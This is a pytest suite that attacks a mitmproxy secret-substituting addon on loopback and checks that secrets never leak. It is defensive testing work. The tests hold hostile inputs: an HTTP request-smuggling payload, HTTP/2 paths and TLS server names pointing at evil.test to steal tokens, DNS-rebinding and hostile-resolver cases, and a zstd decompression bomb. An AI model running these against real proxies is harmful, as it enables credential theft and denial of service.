"""End to end: the attacks of the second containment review, each against a real mitmdump
with the addon, a real client and real upstreams on loopback. Every test sends what an
attacker would and fails if the secret reaches a place the rules never allowed.

- A client's TLS server name other than the destination (eager and lazy connections).
- An upstream that answers a streamed upload early, to make the rest of the body a request.
- A name rebound to a reverse proxy's address (DNS rebinding).
- An upstream proxy that would read a plain-HTTP secret.
- A hostile page probing keys with vault_on_missing=keep.
- A tiny request that would grow without bound; folded headers; refusals sniffed as HTML.
- UIs and debug logs that would show values, and the supported way to watch flows.
"""

from __future__ import annotations

import http.client
import inspect
import socket
import ssl
import subprocess
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import h2.config
import h2.connection
import h2.events
import pytest
import requests
from mitmproxy.net import encoding as mitmproxy_encoding

from tests.support.env import child_env
from tests.support.net import LOOPBACK, free_port, wait_for_port, wait_until
from tests.support.proxy import CLIENT_TIMEOUT, EXAMPLE_HOSTS, MITMDUMP, STARTUP_TIMEOUT, ADDON_SCRIPT, MitmdumpProcess, StartProxy, audit_lines
from tests.support.tls import TLSMaterial, issue_server_material
from tests.support.upstream import RecordingUpstream, Reply
from vaultcore.vault import Vault

TOKEN = "sk_live_Zq9Atk"  # a prefix of every value here: its presence anywhere is a leak


def vault_with(home: Path, **secrets: tuple[str, list[str]]) -> Path:
    vault = Vault(home)
    for key, (value, hosts) in secrets.items():
        vault.set(key, value, hosts=hosts)
    return home


def read_response(sock: socket.socket) -> http.client.HTTPResponse:
    response = http.client.HTTPResponse(sock)
    response.begin()
    response.read()
    return response


HUGE = TOKEN + "Huge" + "x" * (1024 * 1024 - 20)


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The vault of the shared proxy: one key for each test that uses it."""
    return vault_with(
        tmp_path_factory.mktemp("vault-home"),
        **{"sni.tok": (TOKEN + "Sni", ["api.example.com"]), "huge": (HUGE, [LOOPBACK]),
           "fold.tok": (TOKEN + "Fold", [LOOPBACK]), "web.tok": (TOKEN + "Web", [LOOPBACK])},
    )


@pytest.fixture(scope="module")
def proxy(module_mitmdump: StartProxy, home: Path) -> MitmdumpProcess:
    """Shared by the tests that need no other options (eager connections are mitmproxy's
    default): each uses a key of its own and upstreams of its own, and none changes the vault."""
    return module_mitmdump(options={"vault_home": str(home), "connection_strategy": "eager"}, hosts=EXAMPLE_HOSTS)


def connect_tunnel(proxy: MitmdumpProcess, authority: str) -> socket.socket:
    sock = socket.create_connection((LOOPBACK, proxy.port), timeout=CLIENT_TIMEOUT)
    sock.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())
    established = http.client.HTTPResponse(sock)
    established.begin()  # no body follows: the tunnel starts
    assert established.status == 200
    return sock


# --- 1. the TLS server name ---------------------------------------------------------------------


@pytest.mark.parametrize("strategy", ["eager", "lazy"])
def test_a_client_chosen_sni_never_carries_a_secret_elsewhere(
    proxy: MitmdumpProcess, mitmdump: StartProxy, home: Path, tls_material: TLSMaterial, tls_upstream: RecordingUpstream,
    tmp_path: Path, strategy: str,
) -> None:
    """CONNECT to the allowed host, but name evil.test in the ClientHello: mitmproxy would connect
    with that name and accept a server holding a valid certificate for evil.test (reached by
    hijacking the allowed name, here: api.example.com resolves to the attacker's server)."""
    if strategy == "lazy":
        proxy = mitmdump(options={"vault_home": str(home), "connection_strategy": strategy}, hosts=EXAMPLE_HOSTS)
    evil_tls = issue_server_material(tls_material, tmp_path / "evil-tls", ["evil.test"])
    with RecordingUpstream(tls=evil_tls) as evil:
        client_tls = proxy.ssl_context()
        client_tls.check_hostname = False  # the client lies about the name on purpose

        def get(port: int, sni: str) -> http.client.HTTPResponse:
            with connect_tunnel(proxy, f"api.example.com:{port}") as raw, client_tls.wrap_socket(raw, server_hostname=sni) as tls:
                tls.sendall(f"GET /sni HTTP/1.1\r\nHost: api.example.com:{port}\r\nX-Token: <<vault:sni.tok>>\r\n\r\n".encode())
                return read_response(tls)

        response = get(evil.port, "evil.test")
        assert TOKEN.encode() not in evil.all_bytes()
        assert response.status in (403, 502), response.status
        if response.status == 403:
            assert response.getheader("X-Vaultproxy-Error") == "sni_mismatch"
        # The same client naming the destination itself is served.
        assert get(tls_upstream.port, "api.example.com").status == 200
        assert tls_upstream.requests[-1].header("x-token") == TOKEN + "Sni"


def h2_exchange(tls: ssl.SSLSocket, authority: str, paths: list[bytes]) -> list[tuple[bytes, bytes | None]]:
    """GET each of `paths` as an HTTP/2 `:path`, sent as given (an absolute URL too), with
    `X-Token: <<vault:sni.tok>>`; (status, X-Vaultproxy-Error) of each answer, in order."""
    config = h2.config.H2Configuration(client_side=True, header_encoding=None, validate_outbound_headers=False)
    conn = h2.connection.H2Connection(config)
    conn.initiate_connection()
    streams = {}
    for path in paths:
        stream = conn.get_next_available_stream_id()
        conn.send_headers(stream, [(b":method", b"GET"), (b":scheme", b"https"), (b":authority", authority.encode()),
                                   (b":path", path), (b"x-token", b"<<vault:sni.tok>>")], end_stream=True)
        streams[stream] = None
    tls.sendall(conn.data_to_send())
    ended: set[int] = set()
    while len(ended) < len(streams):
        data = tls.recv(65536)
        assert data, "the proxy closed the connection"
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.ResponseReceived):
                headers = dict(event.headers)
                streams[event.stream_id] = (headers[b":status"], headers.get(b"x-vaultproxy-error"))
            elif isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset)):
                ended.add(event.stream_id)
        tls.sendall(conn.data_to_send())
    return [streams[stream] for stream in sorted(streams)]


def test_an_http2_path_naming_another_host_gets_no_secret(
    mitmdump: StartProxy, home: Path, tls_upstream: RecordingUpstream
) -> None:
    """An HTTP/2 client names the allowed host everywhere the checks look (CONNECT, SNI,
    :authority) but sends `:path: https://evil.test/...`: mitmproxy takes it as sent and
    writes it into an HTTP/1 upstream's request line, whose authority outranks Host (RFC 9112
    3.2.2): a shared front (CDN, virtual hosts) gives the request to evil.test."""
    proxy = mitmdump(options={"vault_home": str(home), "connection_strategy": "lazy"}, hosts=EXAMPLE_HOSTS)
    authority = f"api.example.com:{tls_upstream.port}"
    client_tls = proxy.ssl_context()
    client_tls.set_alpn_protocols(["h2"])
    with connect_tunnel(proxy, authority) as raw, client_tls.wrap_socket(raw, server_hostname="api.example.com") as tls:
        assert tls.selected_alpn_protocol() == "h2"
        answers = h2_exchange(tls, authority, [b"https://evil.test/steal", b"http://evil.test/steal", b"/ok"])
    assert answers == [(b"403", b"host_mismatch")] * 2 + [(b"200", None)]
    (served,) = tls_upstream.requests
    assert served.target == "/ok" and served.header("x-token") == TOKEN + "Sni"


# --- 2. request smuggling through a streamed upload -----------------------------------------------


def streamed_upload(upstream: RecordingUpstream, path: str, key: str, length: int) -> bytes:
    """The head of a POST of `length` bytes to `upstream` with `key` in a header, through a
    proxy that streams its body (stream_large_bodies=1k)."""
    origin = f"{LOOPBACK}:{upstream.port}"
    return (
        f"POST http://{origin}{path} HTTP/1.1\r\nHost: {origin}\r\nContent-Type: text/plain\r\n"
        f"Content-Length: {length}\r\nX-Token: <<vault:{key}>>\r\n\r\n"
    ).encode()


def the_audit_line(home: Path, path: str) -> dict:
    wait_until(lambda: bool(audit_lines(home, path)), CLIENT_TIMEOUT, f"the audit line of {path}")
    (line,) = audit_lines(home, path)
    return line


def test_an_early_response_cannot_turn_a_streamed_body_into_a_request(
    mitmdump: StartProxy, upstream: RecordingUpstream, tmp_path: Path
) -> None:
    """The upstream answers 401 on seeing the head; the client then sends the rest of its body,
    which would be a second request if the proxy un-chunked the stream mid-body."""
    home = vault_with(tmp_path / "home", **{"smug.tok": (TOKEN + "Smuggled", [LOOPBACK])})
    upstream.route("/upload", Reply(status=401, body=b"go away", early=True))
    proxy = mitmdump(options={"vault_home": str(home), "stream_large_bodies": "1k"})
    first = b"a" * 4096
    rest = (
        b"0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: evil.test\r\nX-Token: <<vault:smug.tok>>\r\n"
        b"Content-Length: 0\r\n\r\n"
    )
    with socket.create_connection((LOOPBACK, proxy.port), timeout=CLIENT_TIMEOUT) as sock:
        sock.sendall(streamed_upload(upstream, "/upload", "smug.tok", len(first) + len(rest)) + first)
        assert read_response(sock).status == 401
        sock.sendall(rest)
        (upload,) = upstream.wait_for(1)
    time.sleep(0.5)  # time for a smuggled request to arrive, if there is one
    assert [r.path for r in upstream.requests] == ["/upload"]
    assert upload.header("x-token") == TOKEN + "Smuggled" and upload.chunked
    assert upload.body == first + rest.replace(b"<<vault:smug.tok>>", (TOKEN + "Smuggled").encode())
    line = the_audit_line(home, "/upload")
    assert line["keys"] == ["smug.tok"] and line["outcome"] == "resolved"


SLOW_ANSWERS = """import asyncio
import logging


class SlowAnswers:
    async def response(self, flow):
        logging.warning("slow answers: holding one")
        await asyncio.sleep(2)


addons = [SlowAnswers()]
"""


@pytest.mark.parametrize("answer", ["read", "held by another addon"])
def test_a_streamed_upload_answered_early_then_abandoned_is_still_audited(
    mitmdump: StartProxy, upstream: RecordingUpstream, tmp_path: Path, answer: str
) -> None:
    """The upstream answers on seeing the head, and the client hangs up mid-body: mitmproxy
    fires no hook for that (the response is done), but the head's value went upstream. When an
    addon ahead of vaultproxy takes its time over the answer, and the client hangs up
    meanwhile, mitmproxy reports the hang-up before vaultproxy has seen the answer."""
    home = vault_with(tmp_path / "home", **{"gone.tok": (TOKEN + "Gone", [LOOPBACK])})
    upstream.route("/abandoned", Reply(status=401, body=b"go away", early=True))
    slow = tmp_path / "slow_answers.py"
    slow.write_text(SLOW_ANSWERS)
    ahead = ["-s", str(slow)] if answer == "held by another addon" else []
    proxy = mitmdump(addon=False, args=[*ahead, "-s", str(ADDON_SCRIPT)], options={"vault_home": str(home), "stream_large_bodies": "1k"})
    with socket.create_connection((LOOPBACK, proxy.port), timeout=CLIENT_TIMEOUT) as sock:
        sock.sendall(streamed_upload(upstream, "/abandoned", "gone.tok", 100000) + b"a" * 4096)
        if ahead:
            proxy.wait_for_output("slow answers: holding one")  # the answer has come (so the client was let in)
        else:
            assert read_response(sock).status == 401
    line = the_audit_line(home, "/abandoned")
    assert line["keys"] == ["gone.tok"] and line["outcome"] == "resolved"


def test_a_compressed_request_body_that_inflates_to_gigabytes_is_not_decoded_past_a_bound(
    mitmdump: StartProxy, upstream: RecordingUpstream, tmp_path: Path
) -> None:
    """A hostile page may POST any body with any Content-Encoding through the proxy: 68 KB of
    zstd that inflate to 2 GiB would take the proxy's memory. Past the bound the body cannot be
    searched for placeholders, so it goes as it came (it shows none in the clear: one that did
    would be refused)."""
    home = vault_with(tmp_path / "home", **{"bomb.tok": (TOKEN + "Bomb", [LOOPBACK])})
    proxy = mitmdump(options={"vault_home": str(home)})
    body = mitmproxy_encoding.encode(b"\0" * (16 << 20), "zstd") * 128
    with proxy.requests_session() as session:
        answer = session.post(f"{upstream.url}/bomb", data=body, headers={"Content-Encoding": "zstd", "X-Token": "<<vault:bomb.tok>>"},
                              timeout=CLIENT_TIMEOUT)
    assert answer.status_code == 200
    (sent,) = upstream.requests
    assert sent.body == body and sent.header("x-token") == TOKEN + "Bomb"
    assert proxy.peak_memory() < 512 << 20, proxy.peak_memory()  # about 200 MB measured

# --- 5. DNS rebinding in reverse mode --------------------------------------------------------------


def test_reverse_mode_serves_secrets_only_to_its_own_names(
    mitmdump: StartProxy, upstream: RecordingUpstream, tmp_path: Path
) -> None:
    home = vault_with(tmp_path / "home", **{"rv.tok": (TOKEN + "Reverse", [LOOPBACK])})
    proxy = mitmdump(
        options={"vault_home": str(home), "vault_served_names": ["app.test"]},
        args=["--mode", f"reverse:http://{LOOPBACK}:{upstream.port}"],
    )
    session = requests.Session()
    session.trust_env = False

    def get(host: str) -> requests.Response:
        return session.get(f"http://{LOOPBACK}:{proxy.port}/rv", headers={"Host": host, "X-Token": "<<vault:rv.tok>>"},
                           timeout=CLIENT_TIMEOUT)

    refused = get("rebind.attacker.test")
    assert refused.status_code == 403 and refused.headers["X-Vaultproxy-Error"] == "name_not_served"
    assert TOKEN.encode() not in upstream.all_bytes()
    for name in (f"{LOOPBACK}:{proxy.port}", f"localhost:{proxy.port}", "app.test"):
        assert get(name).status_code == 200, name
        assert upstream.requests[-1].header("x-token") == TOKEN + "Reverse"
        # mitmproxy's reverse mode still sends the target's name upstream
        assert upstream.requests[-1].header("host") == f"{LOOPBACK}:{upstream.port}"


def test_a_reverse_proxy_to_https_names_its_target_upstream(
    mitmdump: StartProxy, tls_upstream: RecordingUpstream, tmp_path: Path
) -> None:
    """vaultproxy keeps the client's Host to read it (see above), and mitmproxy then left the
    upstream TLS server name to the client's own: a client that reached the proxy as
    localhost got `sni_mismatch` for its secret, and requests without one went upstream named
    as the client chose (a shared address could route them to another site). The upstream
    connection names the target, as mitmproxy's reverse mode does."""
    home = vault_with(tmp_path / "home", **{"rv.tok": (TOKEN + "ReverseTls", ["api.example.com"])})
    target = f"api.example.com:{tls_upstream.port}"
    proxy = mitmdump(options={"vault_home": str(home)}, hosts=EXAMPLE_HOSTS, args=["--mode", f"reverse:https://{target}"])
    client = ssl.create_default_context(cafile=proxy.ca_path)
    for name in ("localhost", None):  # by name, and by address (no server name at all)
        with socket.create_connection((LOOPBACK, proxy.port), timeout=CLIENT_TIMEOUT) as raw, \
                client.wrap_socket(raw, server_hostname=name or LOOPBACK) as conn:
            conn.sendall(f"GET /rv HTTP/1.1\r\nHost: {name or LOOPBACK}:{proxy.port}\r\nX-Token: <<vault:rv.tok>>\r\n"
                         "Connection: close\r\n\r\n".encode())
            answer = http.client.HTTPResponse(conn)
            answer.begin()
            assert answer.status == 200, (name, answer.headers.get("X-Vaultproxy-Error"))
        assert tls_upstream.requests[-1].header("x-token") == TOKEN + "ReverseTls"
        assert tls_upstream.requests[-1].header("host") == target


# --- 6. the plaintext rule on the hop the bytes travel ----------------------------------------------


def test_an_upstream_proxy_hop_counts_for_the_plaintext_rule(
    mitmdump: StartProxy, upstream: RecordingUpstream, tmp_path: Path
) -> None:
    """A secret for http://localhost goes to the next proxy in clear text: only a loopback one may see it."""
    home = vault_with(tmp_path / "home", **{"up.tok": (TOKEN + "Upstream", ["localhost"])})
    hops = {f"proxy.example.com:{upstream.port}": False, f"{LOOPBACK}:{upstream.port}": True}  # next proxy: allowed

    def chained_to(next_proxy: str) -> MitmdumpProcess:
        return mitmdump(options={"vault_home": str(home)}, args=["--mode", f"upstream:http://{next_proxy}"], hosts=EXAMPLE_HOSTS)

    with ThreadPoolExecutor(len(hops)) as pool:  # started side by side: each start keeps a CPU busy
        proxies = list(pool.map(chained_to, hops))
    for proxy, allowed in zip(proxies, hops.values()):
        with proxy.requests_session() as session:
            response = session.get("http://localhost:9/up", headers={"X-Token": "<<vault:up.tok>>"}, timeout=CLIENT_TIMEOUT)
        if allowed:
            assert response.status_code == 200 and upstream.requests[-1].header("x-token") == TOKEN + "Upstream"
        else:
            assert response.status_code == 403 and response.headers["X-Vaultproxy-Error"] == "plaintext_not_allowed"
            assert TOKEN.encode() not in upstream.all_bytes()
        proxy.stop()


def test_a_name_under_localhost_is_not_loopback_to_the_plaintext_rule(
    mitmdump: StartProxy, upstream: RecordingUpstream, tmp_path: Path
) -> None:
    """`app.localhost` and `localhost.` look like loopback (RFC 6761), but a resolver may ask
    DNS about them (glibc with `hosts: files dns` does): a hostile DNS server, played here by
    the test resolver, would be sent the secret. Only `localhost` itself and loopback addresses
    take one over plain HTTP; names under it go where the resolver says, without secrets."""
    home = vault_with(tmp_path / "home", **{"lh.tok": (TOKEN + "Localhost", ["*.localhost", "localhost"])})
    hostile_answer = {"*.localhost": "127.0.0.2", "*.localhost.": "127.0.0.2", "localhost.": "127.0.0.2"}
    with RecordingUpstream(address=("127.0.0.2", upstream.port)) as elsewhere:
        proxy = mitmdump(options={"vault_home": str(home)}, hosts=hostile_answer)
        with proxy.requests_session() as session:
            for name in ("app.localhost", "localhost.", "Api.Localhost."):
                refused = session.get(f"http://{name}:{upstream.port}/lh", headers={"X-Token": "<<vault:lh.tok>>"}, timeout=CLIENT_TIMEOUT)
                assert refused.status_code == 403 and refused.headers["X-Vaultproxy-Error"] == "plaintext_not_allowed"
            assert elsewhere.connections_accepted == 0
            plain = session.get(f"http://app.localhost:{upstream.port}/no-secret", timeout=CLIENT_TIMEOUT)
            allowed = session.get(f"http://localhost:{upstream.port}/lh", headers={"X-Token": "<<vault:lh.tok>>"}, timeout=CLIENT_TIMEOUT)
        assert plain.status_code == 200 and [r.path for r in elsewhere.requests] == ["/no-secret"]
        assert TOKEN.encode() not in elsewhere.all_bytes()
    assert allowed.status_code == 200 and [r.header("x-token") for r in upstream.requests] == [TOKEN + "Localhost"]


def test_an_upstream_proxy_another_addon_sets_counts_for_the_plaintext_rule(
    mitmdump: StartProxy, tmp_path: Path
) -> None:
    """An addon routes plain-HTTP requests through a next proxy in --mode regular (as
    mitmproxy's change_upstream_proxy example does): the plaintext rule must see that hop."""
    home = vault_with(tmp_path / "home", **{"via.tok": (TOKEN + "Via", [LOOPBACK])})
    script = tmp_path / "via_addon.py"
    with RecordingUpstream() as next_proxy:
        script.write_text(f"def request(flow):\n    flow.server_conn.via = ('http', ('proxy.example.com', {next_proxy.port}))\n")
        proxy = mitmdump(options={"vault_home": str(home)}, args=["-s", str(script)], hosts=EXAMPLE_HOSTS)
        with proxy.requests_session() as session:
            response = session.get(f"http://{LOOPBACK}:9/via", headers={"X-Token": "<<vault:via.tok>>"}, timeout=CLIENT_TIMEOUT)
    assert response.status_code == 403 and response.headers["X-Vaultproxy-Error"] == "plaintext_not_allowed"
    assert TOKEN.encode() not in next_proxy.all_bytes()


def test_an_upstream_proxy_set_after_a_streamed_requests_head_left_carries_nothing(
    mitmdump: StartProxy, upstream: RecordingUpstream, tmp_path: Path
) -> None:
    """A streamed request is resolved at `requestheaders` and its head leaves right after:
    an addon that sets a next proxy in its `request` hook (at the end of the body) sets it
    too late to carry what was judged without it. The value goes straight to the upstream
    the plaintext rule allowed, and the next proxy gets nothing."""
    home = vault_with(tmp_path / "home", **{"late.tok": (TOKEN + "Late", [LOOPBACK])})
    script = tmp_path / "late_via_addon.py"
    with RecordingUpstream() as next_proxy:
        script.write_text(f"def request(flow):\n    flow.server_conn.via = ('http', ('{LOOPBACK}', {next_proxy.port}))\n")
        proxy = mitmdump(options={"vault_home": str(home), "stream_large_bodies": "1k"}, args=["-s", str(script)])
        with proxy.requests_session() as session:
            response = session.post(
                f"{upstream.url}/late", data=iter([b"token=<<vault:late.tok>>&", b"x" * 4096]),
                headers={"X-Token": "<<vault:late.tok>>", "Content-Type": "application/x-www-form-urlencoded"}, timeout=CLIENT_TIMEOUT,
            )
    assert response.status_code == 200
    (sent,) = upstream.requests
    assert sent.header("x-token") == TOKEN + "Late" and sent.body.startswith(f"token={TOKEN}Late&".encode())
    assert next_proxy.connections_accepted == 0 and TOKEN.encode() not in next_proxy.all_bytes()


def test_an_upstream_proxy_resolves_a_name_under_localhost_itself(
    mitmdump: StartProxy, upstream: RecordingUpstream, tmp_path: Path
) -> None:
    """Through an upstream proxy too, `app.localhost` is a name the next proxy resolves as it
    likes: plain HTTP to it is cleartext to an unknown host. `localhost` itself is loopback."""
    home = vault_with(tmp_path / "home", **{"lh.tok": (TOKEN + "Chained", ["*.localhost", "localhost"])})
    proxy = mitmdump(options={"vault_home": str(home)}, args=["--mode", f"upstream:http://{LOOPBACK}:{upstream.port}"])
    with proxy.requests_session() as session:
        refused = session.get("http://app.localhost:9/lh", headers={"X-Token": "<<vault:lh.tok>>"}, timeout=CLIENT_TIMEOUT)
        allowed = session.get("http://localhost:9/lh", headers={"X-Token": "<<vault:lh.tok>>"}, timeout=CLIENT_TIMEOUT)
    assert refused.status_code == 403 and refused.headers["X-Vaultproxy-Error"] == "plaintext_not_allowed"
    assert allowed.status_code == 200 and upstream.requests[-1].header("x-token") == TOKEN + "Chained"
    assert upstream.all_bytes().count(TOKEN.encode()) == 1


# --- 14. keep mode does not tell a page which keys exist ---------------------------------------------


def test_keep_mode_answers_a_page_alike_for_every_key(mitmdump: StartProxy, upstream: RecordingUpstream, tmp_path: Path) -> None:
    home = vault_with(tmp_path / "home", **{"probe.known": (TOKEN + "Known", [LOOPBACK])})
    proxy = mitmdump(options={"vault_home": str(home), "vault_on_missing": "keep"})
    answers = set()
    with proxy.requests_session() as session:
        for key in ("probe.known", "probe.unknown"):
            response = session.get(f"{upstream.url}/probe", headers={"Origin": "https://evil.page", "X-K": f"<<vault:{key}>>"},
                                   timeout=CLIENT_TIMEOUT)
            answers.add((response.status_code, response.headers.get("X-Vaultproxy-Error")))
            assert upstream.requests[-1].header("x-k") == f"<<vault:{key}>>"
    assert len(answers) == 1
    assert TOKEN.encode() not in upstream.all_bytes()


# --- 15, 17. growth, folded headers, refusal pages ----------------------------------------------------


def test_substitution_cannot_grow_a_request_without_bound(proxy: MitmdumpProcess, upstream: RecordingUpstream) -> None:
    with proxy.requests_session() as session:
        response = session.post(f"{upstream.url}/grow", data=b"<<vault:huge>>" * 100,
                                headers={"Content-Type": "text/plain"}, timeout=CLIENT_TIMEOUT)
        assert response.status_code == 413 and response.headers["X-Vaultproxy-Error"] == "too_large"
        assert "vault_max_growth" in response.text
        assert not upstream.requests
        # One use of the value is fine.
        assert session.post(f"{upstream.url}/once", data=b"<<vault:huge>>", headers={"Content-Type": "text/plain"},
                            timeout=CLIENT_TIMEOUT).status_code == 200


def test_folded_headers_never_carry_a_secret(proxy: MitmdumpProcess, upstream: RecordingUpstream) -> None:
    origin = f"{LOOPBACK}:{upstream.port}"
    with socket.create_connection((LOOPBACK, proxy.port), timeout=CLIENT_TIMEOUT) as sock:
        sock.sendall(
            f"GET http://{origin}/fold HTTP/1.1\r\nHost: {origin}\r\nX-Token: <<vault:fold.tok>>\r\n"
            f"X-Folded: first\r\n second\r\n\r\n".encode()
        )
        response = read_response(sock)
    if response.status == 400 and response.getheader("X-Vaultproxy-Error") is None:
        pytest.skip("this mitmproxy rejects obs-fold itself")  # nothing reaches the addon: also safe
    assert response.status == 400 and response.getheader("X-Vaultproxy-Error") == "obs_fold"
    assert response.getheader("X-Content-Type-Options") == "nosniff"
    assert TOKEN.encode() not in upstream.all_bytes()


# --- 11. UIs and debug logs ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "option, message",
    [("proxy_debug=true", "proxy_debug"), ("termlog_verbosity=debug", "termlog_verbosity=debug")],
)
def test_debug_logging_is_refused(tmp_path: Path, option: str, message: str) -> None:
    command = [str(MITMDUMP), "--listen-host", LOOPBACK, "--listen-port", str(free_port()), "-s", str(ADDON_SCRIPT),
               "--set", f"vault_home={tmp_path}", "--set", option]
    done = subprocess.run(command, capture_output=True, timeout=CLIENT_TIMEOUT, env=child_env(), stdin=subprocess.DEVNULL)
    assert done.returncode != 0
    assert f"vaultproxy: {message}" in (done.stdout + done.stderr).decode()


MITMWEB = MITMDUMP.with_name("mitmweb")


def web_password_option() -> list[str]:
    """mitmweb 11.1+ guards its API with a password; 11.0 has none."""
    from mitmproxy.tools.web import webaddons

    return ["--set", "web_password=vaultproxy-test"] if "web_password" in inspect.getsource(webaddons) else []


def test_mitmweb_with_the_addon_is_refused(tmp_path: Path) -> None:
    command = [str(MITMWEB), "--listen-host", LOOPBACK, "--listen-port", str(free_port()), "--set", "web_open_browser=false",
               "--set", f"web_port={free_port()}", "-s", str(ADDON_SCRIPT), "--set", f"vault_home={tmp_path}", *web_password_option()]
    done = subprocess.run(command, capture_output=True, timeout=CLIENT_TIMEOUT, env=child_env(), stdin=subprocess.DEVNULL)
    assert done.returncode != 0
    assert "vaultproxy: mitmweb shows requests while they carry secret values" in (done.stdout + done.stderr).decode()


def test_mitmweb_in_front_of_vaultproxy_only_ever_holds_placeholders(
    proxy: MitmdumpProcess, upstream: RecordingUpstream, tmp_path: Path
) -> None:
    """The README's way to watch flows: mitmweb chained to a headless vaultproxy."""
    vaultproxy = proxy
    listen, web = free_port(), free_port()
    command = [str(MITMWEB), "--listen-host", LOOPBACK, "--listen-port", str(listen), "--mode", f"upstream:{vaultproxy.url}",
               "--set", "web_open_browser=false", "--set", f"web_port={web}", "--set", f"confdir={tmp_path / 'web-confdir'}",
               *web_password_option()]
    with (tmp_path / "mitmweb.log").open("wb") as log:
        mitmweb = subprocess.Popen(command, stdout=log, stderr=log, env=child_env(), stdin=subprocess.DEVNULL)
        try:
            wait_for_port(listen, STARTUP_TIMEOUT)  # a fresh confdir: mitmweb makes its own CA first
            wait_for_port(web, STARTUP_TIMEOUT)
            response = curl_through(listen, f"{upstream.url}/web?t=<<vault:web.tok>>", "-H", "X-Token: <<vault:web.tok>>")
            assert response.returncode == 0, response.stderr
            assert upstream.requests[-1].header("x-token") == TOKEN + "Web"
            session = requests.Session()
            session.trust_env = False
            headers = {"Authorization": "Bearer vaultproxy-test"}
            flows = session.get(f"http://{LOOPBACK}:{web}/flows", headers=headers, timeout=CLIENT_TIMEOUT)
            assert flows.status_code == 200
            assert "<<vault:web.tok>>" in flows.text and TOKEN not in flows.text
            dump = session.get(f"http://{LOOPBACK}:{web}/flows/dump", headers=headers, timeout=CLIENT_TIMEOUT)
            assert dump.status_code == 200 and TOKEN.encode() not in dump.content
        finally:
            mitmweb.terminate()
            mitmweb.wait(CLIENT_TIMEOUT)
    assert TOKEN not in (tmp_path / "mitmweb.log").read_text(errors="replace")


def curl_through(port: int, url: str, *args: str) -> subprocess.CompletedProcess[bytes]:
    command = ["curl", "--silent", "--show-error", "--proxy", f"http://{LOOPBACK}:{port}", "--noproxy", "", *args, url]
    return subprocess.run(command, capture_output=True, env=child_env(), timeout=CLIENT_TIMEOUT, check=False)
